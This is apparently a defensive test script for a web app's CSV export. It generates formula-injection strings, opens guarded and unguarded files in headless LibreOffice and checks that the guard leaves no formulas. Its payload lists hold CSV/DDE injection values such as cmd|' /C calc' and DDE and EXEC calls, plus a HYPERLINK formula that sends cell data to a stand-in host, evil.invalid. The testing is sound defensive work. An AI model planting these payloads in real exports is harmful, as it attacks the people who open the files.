"""Texts that would run in a spreadsheet, opened in LibreOffice: `python -m tests.faults.spreadsheets [--full]`.

The copy for spreadsheets must have no formula in any cell, whatever separates fields where it is opened, and the same
table without the guard must have some, or the texts are not hostile at all.
"""

import argparse
import random
import re
import shutil
import subprocess
import sys
import tempfile
import zipfile
from collections.abc import Iterator, Sequence
from dataclasses import dataclass
from itertools import product
from pathlib import Path
from xml.etree import ElementTree as ET

from webapp.storage.csv_files import write_table
from webapp.storage.variables import Variable

FULL, SHORT = 2_400, 300
SEPARATORS = {"comma": 44, "semicolon": 59, "tab": 9}
"""What separates fields, as a code point; how a CSV file is opened depends on the country."""

COLUMNS = (Variable("code", "text", "x"), Variable("text", "text", "x"), Variable("minus", "integer", "x"))

_STARTS = (
    "", "=", "+", "-", "@", "\t=", "\r=", "\n=", "\r\n=", "\uff1d", "\uff0b", "\uff0d", "\uff20", " =", "\u00a0=",
    "\u200b=", "\ufeff=", "'=", '"=', '""=', ";=", "x;=", 'x;"=', 'x;""=', "x; =", "x\t=", "x\n=", "x\n+", "x\r\n-",
    "x;@", "|", "%", "==", "=-", "-+=", "x,=",
)  # fmt: skip
_BODIES = (
    "1+1", "2+5+cmd|' /C calc'!A0", 'HYPERLINK("http://evil.invalid/?"&A1,"more")', "SUM(A1:A9)", "A1",
    "WEBSERVICE(A1)", 'DDE("soffice";"x";"y")', "cmd|'/C calc'!A1", "IMPORTXML(A1)", "Zo\u00eb",
    "\u05e9\u05dc\u05d5\u05dd", "\U0001f9ea", "1", "R1C1", "$A$1", "{1;2}", "TRUE()", 'EXEC("calc")', "NOW()", "x",
)  # fmt: skip
_ENDS = ("", " ", '"', "'", ";=1+1", "\n=1+1", "\t=1+1", ",=1+1", '";=1+1', "\u202e", "\r\n\r\n=A1")

_NAMESPACE = "{http://schemas.openxmlformats.org/spreadsheetml/2006/main}"
_LOOKS_LIKE_A_NUMBER = re.compile(r"[\s\d.,:/%$+-]*")
_CONTROL = re.compile(r"_x00[01][0-9A-Fa-f]_|[\x00-\x08\x0b-\x1f\x7f]")


@dataclass(frozen=True, slots=True)
class Cell:
    """A cell of a spreadsheet.

    Attributes:
        column: Its letters.
        value: What stands in it.
        is_formula: Whether it is worked out.
        is_text: Whether it is a text.
    """

    column: str
    value: str
    is_formula: bool
    is_text: bool


def hostile_texts(number: int, seed: int = 8) -> list[str]:
    """Return so many texts, no two the same."""
    chooser = random.Random(seed)
    every = ["".join(parts) for parts in product(_STARTS, _BODIES, _ENDS)]
    return chooser.sample(list(dict.fromkeys(every)), number)


def write(path: Path, texts: Sequence[str], *, is_guarded: bool) -> None:
    """Write a table with the texts."""
    rows = ((f"p{number}", text, -number) for number, text in enumerate(texts, start=1))
    with path.open("wb") as file:
        write_table(file, COLUMNS, rows, for_spreadsheet=is_guarded)


def find_office() -> str | None:
    """Return the path of LibreOffice."""
    return shutil.which("soffice") or shutil.which("libreoffice")


def convert(office: str, paths: Sequence[Path], separator: int, folder: Path) -> None:
    """Let LibreOffice open CSV files in UTF-8 as a person would, and keep them as `.xlsx` in a folder."""
    profile = f"-env:UserInstallation={(folder / 'profile').as_uri()}"
    options = ["--headless", "--norestore", f"--infilter=CSV:{separator},34,76,1", "--convert-to", "xlsx"]
    command = [office, profile, *options, "--outdir", str(folder), *map(str, paths)]
    finished = subprocess.run(command, capture_output=True, text=True, timeout=280, check=False)
    made = [folder / path.with_suffix(".xlsx").name for path in paths]
    if not all(path.is_file() for path in made):
        raise RuntimeError(f"LibreOffice wrote no spreadsheet: {finished.stdout} {finished.stderr}")


def read(path: Path) -> Iterator[list[Cell]]:
    """Yield the rows of a spreadsheet's first sheet."""
    with zipfile.ZipFile(path) as archive:
        shared = ET.fromstring(archive.read("xl/sharedStrings.xml"))  # noqa: S314 - LibreOffice wrote it just now
        sheet = ET.fromstring(archive.read("xl/worksheets/sheet1.xml"))  # noqa: S314 - as above
    strings = ["".join(part.text or "" for part in entry.iter(f"{_NAMESPACE}t")) for entry in shared]
    for row in sheet.iter(f"{_NAMESPACE}row"):
        cells = []
        for cell in row.iter(f"{_NAMESPACE}c"):
            is_text, value = cell.get("t") in {"s", "str"}, cell.findtext(f"{_NAMESPACE}v", "")
            column = cell.get("r", "").rstrip("0123456789")
            is_formula = cell.find(f"{_NAMESPACE}f") is not None
            cells.append(Cell(column, strings[int(value)] if cell.get("t") == "s" else value, is_formula, is_text))
        yield cells


def as_kept(text: str) -> str:
    """Return a text as a spreadsheet can keep it: one kind of line end, and no control characters."""
    return _CONTROL.sub("", text.replace("\r\n", "\n").replace("\r", "\n"))


def num_formulas(path: Path) -> int:
    """Count the formulas of a spreadsheet."""
    return sum(cell.is_formula for row in read(path) for cell in row)


def changed(path: Path, texts: Sequence[str]) -> list[tuple[str, str]]:
    """Return the texts that are others in a spreadsheet, up to apostrophes, and what stands there.

    What looks like a number is left out: spreadsheets turn it into one, and the documentation says so.
    """
    _, *rows = read(path)
    kept = [{cell.column: cell for cell in row}.get("B", Cell("B", "", is_formula=False, is_text=True)) for row in rows]
    assert len(kept) == len(texts), (len(kept), len(texts))
    pairs = [
        (text, cell.value) for text, cell in zip(texts, kept, strict=True) if not _LOOKS_LIKE_A_NUMBER.fullmatch(text)
    ]
    plain = [(as_kept(text).replace("'", ""), as_kept(value).replace("'", "")) for text, value in pairs]
    return [pair for pair, (text, value) in zip(pairs, plain, strict=True) if text != value]


def main() -> int:
    """Print what was found; return 0 if there are no formulas and the control has some."""
    parser = argparse.ArgumentParser(description=__doc__.splitlines()[0])
    parser.add_argument("--full", action="store_true", help=f"{FULL} texts in place of {SHORT}")
    texts = hostile_texts(FULL if parser.parse_args().full else SHORT)
    office = find_office()
    if office is None:
        print("LibreOffice was not found; .ci/install.py --spreadsheet installs it", file=sys.stderr)
        return 2
    is_right = True
    for name, separator in SEPARATORS.items():
        with tempfile.TemporaryDirectory() as scratch:
            guarded, raw = Path(scratch) / "guarded.csv", Path(scratch) / "raw.csv"
            write(guarded, texts, is_guarded=True)
            write(raw, texts, is_guarded=False)
            convert(office, [guarded, raw], separator, Path(scratch))
            found, control = (num_formulas(path.with_suffix(".xlsx")) for path in (guarded, raw))
            others = changed(guarded.with_suffix(".xlsx"), texts) if name == "comma" else []
        told = f"{found} formulas; without the guard {control}; changed {len(others)}"
        print(f"{len(texts)} texts, fields separated by {name}: {told}")
        is_right = is_right and found == 0 and control > 0 and not others
        for text, value in others[:5]:
            print(f"  {text!r} became {value!r}")
    return 0 if is_right else 1


if __name__ == "__main__":
    sys.exit(main())
